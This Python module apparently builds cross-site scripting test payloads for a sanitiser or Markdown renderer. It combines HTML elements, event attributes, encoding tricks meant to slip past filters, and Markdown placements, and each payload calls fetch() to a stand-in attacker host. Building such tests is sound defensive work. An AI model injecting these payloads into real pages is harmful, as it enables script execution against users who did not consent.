"""Texts that would run a script, load something, or lead elsewhere, on a page that took them as markup.

A few are written by hand; the others come from a small grammar: elements, what makes them act, ways of writing the
same, and places in Markdown. Each would be seen: it opens a dialog, sets a mark, asks for an address elsewhere, or
changes the place the page is at.
"""

import html
import itertools
import random
import tomllib
from collections.abc import Callable
from pathlib import Path

_ELSEWHERE = "https://attacker.test"
_ACT = f"window.wasRun=1;alert(1);fetch('{_ELSEWHERE}/run')"
_WRITINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    str.upper,
    lambda text: text.replace(" ", "/", 1),
    lambda text: text.replace(" ", "\n", 1),
    lambda text: html.escape(text, quote=False),
    lambda text: "".join(f"&#{ord(letter)};" if letter in "<>" else letter for letter in text),
    lambda text: text.replace("<", "\\<"),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text[:-1],
)


def payloads(number: int) -> list[str]:
    """So many of them, all different, the same each time: those by hand and the others in turn."""
    written = tomllib.loads(Path(__file__).with_suffix(".toml").read_text(encoding="utf-8"))
    lists = {name: [_filled(text) for text in texts] for name, texts in written.items()}
    made = [
        place.replace("{}", writing(f"<{element} {attribute}>x</{element}>"))
        for element, attribute, writing, place in itertools.product(
            lists["elements"], lists["attributes"], _WRITINGS, lists["places"]
        )
    ]
    random.Random(1).shuffle(made)  # noqa: S311  nothing is kept secret with it
    mixed = itertools.chain.from_iterable(itertools.zip_longest(lists["by_hand"], made[: 10 * number]))
    return list(dict.fromkeys(text for text in mixed if text))[:number]


def _filled(text: str) -> str:
    return text.replace("ACT", _ACT).replace("ELSEWHERE", _ELSEWHERE)
